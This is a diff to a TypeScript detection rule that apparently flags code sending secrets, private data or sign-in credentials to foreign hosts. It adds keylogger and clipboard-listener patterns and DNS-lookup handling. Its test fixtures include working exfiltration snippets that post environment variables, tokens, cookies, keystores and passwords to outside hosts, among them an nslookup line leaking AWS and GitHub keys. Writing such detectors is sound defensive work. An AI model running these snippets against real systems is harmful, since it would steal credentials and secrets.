@@ -1,7 +1,7 @@
 import type { Document } from '../../document.ts'
 import { SIGN_IN_FILES } from '../../lexicon/secret-files.ts'
 import { defineRule, type Hit } from '../../rule.ts'
-import { SENDS, TAKES_PRIVATE, TAKES_SECRETS } from '../../signals/calls.ts'
+import { SENDS, TAKES_PRIVATE, TAKES_SECRETS, TAKES_SIGN_INS } from '../../signals/calls.ts'
 import {
   isForeign,
   isForeignFor,
@@ -46,8 +46,21 @@ const WHOLE = /secrets|environ|process\.env|env\.|env:|getenv/
 const LOOKUP =
   /\b(?:dns|nslookup|dig|lookup\w{2,6}|gethostby\w{4}|getbyname|getaddrinfo|resolve-dnsname)\b/
 
+/** It goes on as long as the program runs. */
+const LISTENS = regex`
+  \bonprimaryclipchanged\b|\bclipchangedlistener\b|\bclipboardformatlistener\b|
+  \bwm_clipboardupdate\b|\bwaitfornewpaste\b|\bpost_run_cell\b|
+  \bkeyboard\.(?:listener|on_press|on_release|hook)\b|\bgetasynckeystate\b
+`
+
+/** Where one signs in with it. */
+const SIGN_IN_PATH = /\/[\w-]{0,20}(?:log-?in|sign-?in|auth|session|token|account|regist)/
+
 /** A host in quotes without a scheme, as sockets and letters take it. */
 const HOST = /(?:["'`]|\}|["'`]\.|\}\.)([\w-]{1,60}(?:\.[\w-]{1,60}){1,5})(?::\d{2,5})?["'`]/g
+/** The same behind a variable of a batch file. */
+const BEHIND_VARIABLE = /[%!]\.((?:[\w-]{1,60}\.){1,5}[a-z]{2,12})\b/g
+
 const FILE =
   /\.(?:py|js|ts|json|ya?ml|txt|md|sh|env|csv|html?|pem|key|log|db|sqlite|toml|cfg|ini|com\.\w{1,9}\.\w{1,20}|environ|path|zip|tgz|gz|dat|local)$/
 
@@ -70,17 +83,21 @@ export default defineRule({
       '```r\ninfo <- list(env = as.list(Sys.getenv()))\nhttr::POST("https://diag.kiln-parts.io/r", body = info)\n```\n',
       '```kotlin\nval ks = android.signingConfigs["release"].storeFile!!\nval c = URI("https://check.kiln-sign.net/u").toURL().openConnection()\nc.outputStream.use { it.write(ks.readBytes()) }\n```\n',
       '```python\nd = {k: v for k, v in os.environ.items() if "KEY" in k}\nurllib.request.urlopen("https://warm.cachet.example/w", json.dumps(d).encode())\n```\n',
+      '```ts\nconst auth = h.get("authorization") ?? h.get("cookie")\nplain(`https://rt.sable-crumb.net/k`, { method: "POST", body: auth })\n```\n',
+      '```bat\nfor %%v in (AWS_SECRET_ACCESS_KEY GITHUB_TOKEN) do nslookup -type=TXT !%%v!.%COMPUTERNAME%.r.sable-crumb.net\n```\n',
+      '```lua\nlocal a = ngx.req.get_post_args()\nlocal s = ngx.socket.udp()\ns:setpeername("81.2.69.160", 5514)\ns:send(a.username .. a.password)\n```\n',
       "```ruby\nNet::HTTP.post(URI('https://rake.cachet.example/x'), ENV.to_h.to_json)\n```\n",
       '```yaml\nenv:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -s -X POST --data "$ALL" https://timing.cachet.example/r\n```\n',
     ],
     quiet: [
+      '```js\nawait fetch("https://api.sable-crumb.net/v1/login", { method: "POST", body: JSON.stringify({ user: form.user, password: form.password }) })\n```\n',
       '```python\nenv = {**os.environ, "MODE": "test"}\nsubprocess.run(["make"], env=env)\nrequests.post("https://api.github.com/repos", json={})\n```\n',
       '```js\nconst key = process.env.OPENAI_API_KEY\nawait fetch("https://api.openai.com/v1/x", { method: "POST" })\n```\n',
       '```js\nfetch("http://localhost:3000/x", { method: "POST", body: JSON.stringify(process.env) })\n```\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
-    for (const takes of [TAKES_SECRETS, TAKES_PRIVATE])
+    for (const takes of [TAKES_SECRETS, TAKES_PRIVATE, TAKES_SIGN_INS])
       for (const pair of pairs(document, takes, SENDS, REACH)) {
         const { text, snippet, start, end, first, second } = pair
         const around = text.slice(
@@ -102,7 +119,14 @@ export default defineRule({
         )
         // A name that is put together from what was read and looked up is never a service's way.
         const looked = secret && LOOKUP.test(second[0]) && targets.some(isStranger)
-        if (foreign || looked) yield { start, end, severity: secret ? 'crit' : 'high', firm: true }
+        const signsIn = takes === TAKES_SIGN_INS && targets.every((one) => SIGN_IN_PATH.test(one))
+        if ((foreign || looked) && !signsIn)
+          yield {
+            start,
+            end,
+            severity: secret || LISTENS.test(around) ? 'crit' : 'high',
+            firm: true,
+          }
         else if (targets.length > 0 && targets.some(isStandIn) && secret)
           yield { start, end, severity: 'high', confidence: 'medium', firm: true }
         else if (secret && KEY_FILE.test(first[0]) && !targets.some(isStandIn))
@@ -121,8 +145,10 @@ export default defineRule({
 })
 
 function targetsIn(text: string): string[] {
-  const hosts = [...text.matchAll(HOST)].flatMap(([, host]) =>
-    FILE.test(host!) || !/\.[a-z]{2,12}$/.test(host!) ? [] : [`https://${host}`],
+  const hosts = [...text.matchAll(HOST), ...text.matchAll(BEHIND_VARIABLE)].flatMap(([, host]) =>
+    FILE.test(host!) || !/\.[a-z]{2,12}$|^(?:\d{1,3}\.){3}\d{1,3}$/.test(host!)
+      ? []
+      : [`https://${host}`],
   )
   return [...addressesIn(text), ...hosts]
 }
